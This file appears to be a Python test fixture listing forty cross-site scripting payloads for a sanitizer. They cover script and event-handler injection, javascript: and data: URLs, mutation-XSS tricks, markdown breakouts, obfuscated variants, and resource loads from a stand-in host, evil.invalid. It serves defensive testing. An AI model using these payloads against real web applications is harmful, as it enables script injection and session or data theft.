"""What a hostile text tries: to call ``xss()``, or to have something of ``evil.invalid``."""

EVIL = "https://evil.invalid"

PAYLOADS = [
    "<script>xss(1)</script>",
    f"<script src={EVIL}/2.js></script>",
    f"<img src={EVIL}/3.png>",
    "<img src=x onerror=xss(4)>",
    "<img src=x onerror='xss(5)'//",
    "<svg onload=xss(6)>",
    "<svg><script>xss(7)</script></svg>",
    "<svg><animate onbegin=xss(8) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:xss(9)'><text x=20 y=20>click</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=xss(10)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=xss(11)>'>",
    "<iframe srcdoc='<script>parent.xss(12)</script>'></iframe>",
    "<iframe src='javascript:parent.xss(13)'></iframe>",
    f"<object data='{EVIL}/14'></object><embed src='{EVIL}/14e'>",
    "<body onload=xss(15)><input autofocus onfocus=xss(15)>",
    "<details open ontoggle=xss(16)><summary>x</summary></details>",
    "<video><source onerror=xss(17)></video><audio src=x onerror=xss(17)>",
    "<marquee onstart=xss(18)>x</marquee>",
    f"<form action='{EVIL}/19'><button formaction='javascript:xss(19)'>send</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/20'>",
    f"<base href='{EVIL}/21/'><link rel=stylesheet href='{EVIL}/21.css'>",
    f"<style>@import '{EVIL}/22.css'; body {{ background: url({EVIL}/22) }}</style>",
    f"<p style='background:url({EVIL}/23)'>x</p>",
    "[click](javascript:xss(24))",
    "[click](JaVaScRiPt&colon;xss(25)) [click](java\nscript:xss(25))"
    " [click](&#106;avascript:xss(25))",
    "[click](data:text/html;base64,PHNjcmlwdD54c3MoMjYpPC9zY3JpcHQ+)",
    "[click](vbscript:xss(27)) <javascript:xss(27)>",
    f"![picture]({EVIL}/28.png) ![picture][evil]\n\n[evil]: {EVIL}/28r.png",
    '[click](https://example.com"onmouseover="xss(29)) ![x](x"onerror="xss(29))',
    '```html"onmouseover="xss(30)\n<img src=x onerror=xss(30)>\n```',
    "```\n</code></pre><img src=x onerror=xss(31)>\n```",
    "`<img src=x onerror=xss(32)>` ``</code><script>xss(32)</script>``",
    "| <img src=x onerror=xss(33)> |\n|---|\n| </table><script>xss(33)</script> |",
    "&lt;img src=x onerror=xss(34)&gt; &#60;script&#62;xss(34)&#60;/script&#62;",
    "<a href='javascript:xss(35)' target=_self>click</a>"
    "<a href=//evil.invalid/35 ping=//evil.invalid/p>x</a>",
    "<textarea></textarea><img src=x onerror=xss(36)></textarea>",
    "<x onclick=xss(37) tabindex=0 id=root class=composer>x</x><form id=body name=cookie>",
    "\u202e<img/src=x\u0000onerror=xss(38)>\ufeff<scr\u0000ipt>xss(38)</scr\u0000ipt>",
    "<template><img src=x onerror=xss(39)></template><xmp><img src=x onerror=xss(39)></xmp>",
    "# <img src=x onerror=xss(40)>\n\n> <script>xss(40)</script>\n\n- <svg/onload=xss(40)>",
]
